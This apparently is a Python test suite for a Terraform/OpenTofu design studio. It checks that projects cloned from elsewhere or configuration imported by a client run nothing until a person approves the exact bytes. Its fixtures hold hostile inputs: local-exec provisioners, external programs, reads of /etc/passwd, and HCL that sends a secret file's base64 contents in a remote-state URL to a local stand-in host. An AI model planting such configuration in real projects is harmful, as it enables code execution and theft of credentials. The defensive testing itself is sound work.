#!/usr/bin/env python3
"""trust.py - a project from elsewhere runs nothing before a person trusts it, byte for byte (studio.md ST-085,
ST-143): its own files of types, its Terraform files, and what looks like the engine's own work."""
import json
import os
import shutil
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../lib"))
import studio  # noqa: E402
from acts import Asked, FAKE  # noqa: E402
from check import Step, need  # noqa: E402
import check  # noqa: E402

BOX = "builtin/own/box"


def type_file(hcl, terraform=None, provider=None, type_id=BOX):
    """A file of types with one type, which anybody can write."""
    file = {"formatVersion": 1, "palette": [{"id": "own", "label": "Own"}], "types": [
        {"typeId": type_id, "displayName": "Box", "category": "own",
         "terraform": terraform or {"type": "terraform_data"}, "hcl": hcl}]}
    if provider:
        file["providers"] = provider
    return file


def pwn(marker):
    return f'null\n  provisioner "local-exec" {{\n    command = "touch {marker}"\n  }}'


def harmful(marker):
    """Ways to have the engine run or read something by types alone; the last need no local-exec."""
    raw = {"raw": pwn(marker)}
    block = [{"block": "provisioner", "items": [{"attr": "command", "value": {"lit": f"touch {marker}"}}]}]
    outside = {"outside": {"displayName": "Outside", "source": "outside/outside", "version": "1.0.0"}}
    executes = [{"block": "exec", "items": [{"attr": "command", "value": {"lit": "touch"}}]}]
    return {
        "raw": type_file({"body": [{"attr": "input", "value": raw}]}),
        "raw in a list": type_file({"body": [{"attr": "input", "value": {"list": [raw]}}]}),
        "raw in an extra block": type_file({"body": [], "extra": [
            {"id": "e", "type": "terraform_data", "name": "{self}_e", "items": [{"attr": "input", "value": raw}]}]}),
        "a provisioner": type_file({"body": block}),
        "a provisioner in an extra block": type_file({"body": [], "extra": [
            {"id": "e", "type": "terraform_data", "name": "{self}_e", "items": block}]}),
        "data that runs a program": type_file({"body": [], "data": [
            {"type": "external", "name": "x", "items": [{"attr": "program", "value": {"list": [{"lit": "touch"}]}}]}]}),
        "data from the network": type_file({"body": [], "data": [
            {"type": "http", "name": "x", "items": [{"attr": "url", "value": {"lit": "http://127.0.0.1:1/"}}]}]}),
        "a state of somebody's": type_file({"body": [], "data": [
            {"type": "terraform_remote_state", "name": "x", "items": [{"attr": "backend", "value": {"lit": "http"}}]}]}),
        "a function that reads files": type_file({"body": [
            {"attr": "input", "value": {"fn": "file", "args": [{"lit": "/etc/passwd"}]}}]}),
        "a template of a file": type_file({"body": [
            {"attr": "input", "value": {"fn": "templatefile", "args": [{"lit": "x"}, {"lit": {}}]}}]}),
        "a resource of another provider": type_file({"body": []}, {"type": "null_resource"}),
        "a resource that writes files": type_file({"body": [{"attr": "filename", "value": {"lit": "x"}}]},
                                                  {"type": "local_file"}),
        "by the case": type_file({"body": []}, {"type": {"by": "label", "cases": {"a": "null_resource"},
                                                         "default": "terraform_data"}}),
        "a provider from elsewhere": type_file({"body": []}, {"type": "outside_box"}, outside, "outside/own/box"),
        "a provider with a body": type_file({"body": []}, {"type": "outside_box"},
                                            {"outside": {**outside["outside"], "body": executes}}, "outside/own/box"),
    }


def make(place, name, file=None):
    """A project of somebody else's with a node of that type; its folder, as it was cloned to this machine."""
    client = place.client
    path = client.use("new_project", name=name, directoryPath=place.folder)["project"]["path"]
    if file:
        os.makedirs(os.path.join(path, "types"))
        with open(os.path.join(path, "types/own.json"), "w", encoding="utf-8") as out:
            json.dump(file, out)
    client.use("save_project")
    client.use("close_project")
    client.use("open_project", projectPath=path)
    client.add(file["types"][0]["typeId"] if file else "builtin/core/data", label="it")
    client.use("save_project")
    client.use("close_project")
    clone = path + "-clone"
    shutil.copytree(path, clone)
    shutil.rmtree(os.path.join(clone, ".tenon"))
    shutil.rmtree(os.path.join(clone, "terraform"), ignore_errors=True)
    client.use("open_project", projectPath=clone)
    return clone


def refused(place, path, what, marker=None):
    """Whichever command starts the engine."""
    for command in ("init", "validate", "plan", "apply", "destroy"):
        place.client.approved = 0
        result, asked = place.run(command)
        need(result == "CONSENT_DECLINED" and asked == 1, f"{what}: {command}: asked {asked} times, {result}")
        need("not made here" in place.client.questions[0], place.client.questions[0])
    need(not os.path.exists(os.path.join(path, "terraform/.terraform")), f"{what}: the engine ran")
    need(not marker or not os.path.exists(marker), f"{what}: it was run")


def types(engine):
    with Asked(engine) as place:
        marker = os.path.join(place.folder, "PWNED")
        for index, (what, file) in enumerate(harmful(marker).items()):
            try:
                path = make(place, f"p{index}", file)
            except studio.Fault as fault:  # it is no type at all: nothing of it is generated
                need(what == "by the case" and fault.code == "UNKNOWN_RESOURCE_TYPE", f"{what}: {fault}")
                continue
            refused(place, path, what, marker)
            place.client.use("close_project", discard=True)
        path = make(place, "harmless", type_file({"body": [{"attr": "input", "value": {"lit": 1}}]}))
        place.client.approved = 0
        result, asked = place.run("plan")
        need(asked == 0 and result["success"], f"a type that runs nothing: {asked} {result}")


def remains(engine):
    """What stands in terraform/ and was not made here."""
    evil = b'resource "terraform_data" "x" {}\n'
    files = {"evil.tf": evil, "evil_override.tf": evil, "evil.tf.json": b"{}", "evil.tofu": evil, "evil.tofu.json": b"{}",
             "evil.auto.tfvars": b"", "terraform.tfvars.json": b"{}", ".terraform/providers/x/y": b"x",
             ".terraform/modules/modules.json": b'{"Modules":[]}', "terraform.tfstate": b'{"version":4}',
             "terraform.tfstate.d/a/terraform.tfstate": b"{}"}
    with Asked(engine) as place:
        for index, (name, data) in enumerate(files.items()):
            path = make(place, f"q{index}")
            target = os.path.join(path, "terraform", name)
            os.makedirs(os.path.dirname(target))
            with open(target, "wb") as file:
                file.write(data)
            for command in ("init", "validate", "plan", "apply"):
                place.client.approved = 0
                result, asked = place.run(command)
                need(result == "CONSENT_DECLINED" and asked == 1, f"{name}: {command}: {asked} {result}")
            need(name.split("/")[0] in place.client.questions[0], place.client.questions[0])
            place.client.use("close_project", discard=True)


def bytes_that_were_trusted(engine):
    """Trust is in bytes: what is changed afterwards is asked about again; what is not, never again."""
    with Asked(engine) as place:
        marker = os.path.join(place.folder, "PWNED")
        path = make(place, "trusted", harmful(marker)["raw"])
        place.client.approved = 1
        result, asked = place.run("plan")
        need(asked == 1 and result["success"], f"{asked} {result}")
        result, asked = place.run("plan")
        need(asked == 0 and result["success"], f"asked twice: {asked} {result}")
        os.makedirs(os.path.join(path, "terraform"), exist_ok=True)
        for name in ("mine.tf", "mine.tf"):
            with open(os.path.join(path, "terraform", name), "ab") as file:
                file.write(b"# more\n")
            place.client.approved = 0
            result, asked = place.run("plan")
            need(asked == 1 and result == "CONSENT_DECLINED", f"{name}: {asked} {result}")
            place.client.approved = 1
            result, asked = place.run("plan")
            need(asked == 1 and result["success"], f"{name}: {asked} {result}")
        module = os.path.join(path, "terraform/modules/deep/main.tf")
        for text in ("# a module\n", "# another\n"):
            os.makedirs(os.path.dirname(module), exist_ok=True)
            with open(module, "w", encoding="utf-8") as file:
                file.write(text)
            place.client.approved = 0
            result, asked = place.run("plan")
            need(asked == 1 and result == "CONSENT_DECLINED", f"{text}: {asked} {result}")
            need("modules/deep/main.tf" in place.client.questions[0], place.client.questions[0])
            place.client.approved = 1
            result, asked = place.run("plan")
            need(asked == 1 and result["success"], f"{text}: {asked} {result}")
        plan = result["planId"]
        with open(module, "a", encoding="utf-8") as file:
            file.write("# since the plan\n")
        place.client.approved = 2
        result, asked = place.run("apply", planId=plan)
        need(result == "STALE_PLAN", f"a plan of another module: {asked} {result}")
        place.client.use("save_project")
        place.client.use("close_project")
        other = os.path.join(path, "types/own.json")
        text = open(other, encoding="utf-8").read().replace("PWNED", "PWNED2")
        open(other, "w", encoding="utf-8").write(text)
        place.client.use("open_project", projectPath=path)
        place.client.approved = 0
        result, asked = place.run("plan")
        need(asked == 1 and result == "CONSENT_DECLINED", f"other types: {asked} {result}")

        def changed():
            with open(os.path.join(path, "terraform/mine.tf"), "ab") as file:
                file.write(b"# while they read\n")
        place.client.approved = 1
        result, asked = place.run("plan", changed)
        need(asked == 2 and result == "CONSENT_DECLINED", f"changed while it was asked: {asked} {result}")


def nobody(engine):
    """Where nobody can be asked it is refused in words; what is made here is not asked about."""
    with Asked(engine) as place:
        path = make(place, "nobody", harmful("/nowhere")["raw"])
        place.link.close()
        place.link = studio.links.Stdio([studio.daemon.TENON, "serve", "studio"], env=place.env, errors=place.errors)

        class Mute(studio.Assistant):
            def hello(self):
                self.capabilities = {}
                return super().hello()

        client = place.client = Mute(place.link)
        client.use("open_project", projectPath=path)
        for command in ("init", "validate", "plan"):
            need(client.code_of("run_terraform", command=command) == "UNTRUSTED_PROJECT", command)


EVIL = {
    "a file in an output": 'output "k" {{ value = base64encode(file("{secret}")) }}',
    "a state on the network": 'data "terraform_remote_state" "x" {{\n  backend = "http"\n'
                              '  config  = {{ address = "http://127.0.0.1:1/${{filebase64("{secret}")}}" }}\n}}',
    "a program": 'resource "terraform_data" "job" {{\n  for_each = toset(["q"])\n  provisioner "local-exec" {{\n'
                 '    command = "touch {marker}"\n  }}\n}}',
    "a module": 'module "m" {{ source = "./sub" }}',
}


def brought_by_a_client(engine):
    """Configuration that a client had imported and that no type covers is written as it was: in a project that was made
    here, too, a person sees it, and says yes, before the engine reads it."""
    for number, (what, text) in enumerate(EVIL.items()):
        with Asked(engine) as place:
            marker, secret = os.path.join(place.folder, "PWNED"), os.path.join(place.folder, "secret")
            with open(secret, "w", encoding="utf-8") as file:
                file.write("a-key-of-the-person")
            client = place.client
            client.use("new_project", name=f"evil{number}", directoryPath=place.folder)
            source = text.format(marker=marker, secret=secret) + "\n# \u202e\n"
            client.use("import_terraform", source="config", files={"main.tf": source})
            for command in ("init", "validate", "plan", "apply"):
                client.approved = 0
                result, asked = place.run(command)
                need(result == "CONSENT_DECLINED" and asked == 1, f"{what}: {command}: asked {asked} times, {result}")
                need(all("| " + line in client.questions[0] for line in source.splitlines()[:-1]), client.questions[0])
                need("\u202e" not in client.questions[0], "what turns text")
            need(not os.path.exists(marker), what)
            if what == "a program":
                client.approved = 1
                need(place.run("plan")[1] == 1 and place.run("plan")[1] == 0, "asked once for these bytes")
                client.use("import_terraform", source="config", files={"main.tf": 'output "more" { value = file("/x") }'})
                client.approved = 0
                result, asked = place.run("plan")
                need(result == "CONSENT_DECLINED" and asked == 1, f"other bytes: {asked} {result}")


def asked_again(place, what, asked=1):
    place.client.approved = 0
    result, count = place.run("plan")
    need(count == asked and (result == "CONSENT_DECLINED") == (asked > 0), f"{what}: asked {count} times, {result}")


def trusted_with_all_it_reads(engine):
    """What a client has brought is trusted with everything that it can read: values, other nodes, settings, files."""
    with Asked(engine) as place:
        client = place.client
        path = client.use("new_project", name="reads", directoryPath=place.folder)["project"]["path"]
        client.use("import_terraform", source="config", files={
            "main.tf": 'variable "p" {}\noutput "k" { value = file(var.p) }\n', "terraform.tfvars": 'p = "/dev/null"\n'})
        client.approved = 1
        result, asked = place.run("plan")
        need(asked == 1 and result["success"], f"{asked} {result}")
        need('| p = "/dev/null"' in client.questions[0] and "(in it: file)" in client.questions[0], client.questions[0])
        asked_again(place, "nothing has changed", 0)
        client.use("undo_change")
        client.use("import_terraform", source="config", files={
            "main.tf": 'variable "p" {}\noutput "k" { value = file(var.p) }\n', "terraform.tfvars": 'p = "/etc/passwd"\n'})
        asked_again(place, "another value")
        client.approved = 1
        place.run("plan")
        client.add("builtin/core/data", label="more", properties={"input": "one"})
        asked_again(place, "another node, which it might read")
        client.approved = 1
        place.run("plan")
        client.use("export_diagram", format="csv", path="notes.csv")
        asked_again(place, "a file that an export has written, which a template might be")
        client.approved = 1
        place.run("plan")
        client.use("set_project_config", config={"tags": {"team": "other"}})
        asked_again(place, "settings")
        need(os.path.isdir(path), path)
    with Asked(engine) as place:
        client = place.client
        client.use("new_project", name="plain", directoryPath=place.folder)
        client.use("import_terraform", source="config", files={"main.tf": 'output "k" { value = "plain" }\n'})
        client.approved = 1
        place.run("plan")
        client.add("builtin/core/data", label="more", properties={"input": "one"})
        asked_again(place, "what reads nothing goes on being trusted", 0)
    with Asked(engine) as place:
        client = place.client
        client.use("new_project", name="outside", directoryPath=place.folder)
        for source in ("../../a/terraform", "./x/../../../a", "/tmp/a", "git::file:///tmp/a"):
            client.use("import_terraform", source="config", files={"main.tf": f'module "m" {{ source = "{source}" }}\n'})
            client.approved = 1
            result, asked = place.run("plan")
            need(asked == 0 and result == "UNTRUSTED_PROJECT" and "lies outside" in place.fault, f"{source}: {asked} {result}")
            client.use("undo_change")


def state_of_a_client(engine):
    """The state names the providers that are installed and started: another place for it is asked about first, and a move
    that was approved for one project moves no other."""
    with Asked(engine) as place:
        client = place.client
        client.use("new_project", name="state", directoryPath=place.folder)
        client.use("set_project_config", config={"backend": {"type": "http", "config": {
            "address": "http://127.0.0.1:1/state"}}})
        for command in ("init", "validate", "plan", "apply"):
            client.approved = 0
            result, asked = place.run(command)
            need(result == "CONSENT_DECLINED" and asked == 1, f"{command}: asked {asked} times, {result}")
            need("127.0.0.1:1/state" in client.questions[0], client.questions[0])
    with Asked(engine) as place:
        client = place.client
        for name in ("one", "two"):
            client.use("new_project", name=name, directoryPath=place.folder)
            client.use("set_project_config", config={"backend": {"type": "http", "config": {
                "address": "http://127.0.0.1:1/state"}}})
        client.use("open_project", projectPath=os.path.join(place.folder, "one"))

        def switched():
            client.link.send({"jsonrpc": "2.0", "id": 4711, "method": "tools/call", "params": {
                "name": "open_project", "arguments": {"projectPath": os.path.join(place.folder, "two")}}})
        client.approved = 1
        result, asked = place.run("init", switched, migrateState=True)
        need(asked == 2 and result == "CONSENT_DECLINED", f"asked {asked} times, {result}")
        need("/two" in client.questions[1], client.questions)


def state_elsewhere(engine):
    """The state goes over another one only when a person says so."""
    with Asked(engine) as place:
        place.begin("moved")
        place.client.use("set_project_config", config={"backend": {"type": "http", "config": {
            "address": "http://127.0.0.1:1/state"}}})
        place.client.approved = 0
        result, asked = place.run("init", migrateState=True)
        need(result == "CONSENT_DECLINED" and asked == 1, f"asked {asked} times, {result}")
        need("127.0.0.1:1/state" in place.client.questions[0], place.client.questions[0])


def settings_of_the_engine(engine):
    """All files that it reads as its settings, also those that appear while a person thinks."""
    for name in (".terraformrc", ".terraform.d/z.tfrc", ".terraform.d/a.tfrc.json", ".config/opentofu/tofurc",
                 ".config/opentofu/more.tfrc"):
        with Asked(engine) as place:
            place.begin("settings")
            place.client.add("builtin/core/data", label="beta", properties={"input": "two"})
            target = os.path.join(place.env["HOME"], name)

            def appears():
                os.makedirs(os.path.dirname(target), exist_ok=True)
                with open(target, "w", encoding="utf-8") as file:
                    file.write("{}" if name.endswith("json") else "# nothing\n")
            result, asked = place.run("apply", appears)
            need(asked == 2 and result == "CONSENT_DECLINED", f"{name}: {asked} {result}")


def main():
    engines = {"the fake engine": FAKE}
    engines |= {name: shutil.which(name) for name in ("terraform", "tofu") if shutil.which(name)}
    for name, engine in engines.items():
        for title, part in (("ST-143 types", types), ("ST-085 remains", remains),
                            ("ST-085 the bytes that were trusted", bytes_that_were_trusted),
                            ("ST-144 what a client has imported", brought_by_a_client),
                            ("ST-085 what it can read", trusted_with_all_it_reads),
                            ("ST-085 a state of a client's", state_of_a_client),
                            ("9.6 the state goes elsewhere", state_elsewhere),
                            ("ST-081 settings of the engine", settings_of_the_engine),
                            ("ST-143 nobody to ask", nobody)):
            if engine == FAKE or part in (types, bytes_that_were_trusted, brought_by_a_client):
                with Step("studio-trust", f"{title} ({name})"):
                    part(engine)
    return 1 if check.failures else 0


sys.exit(main())
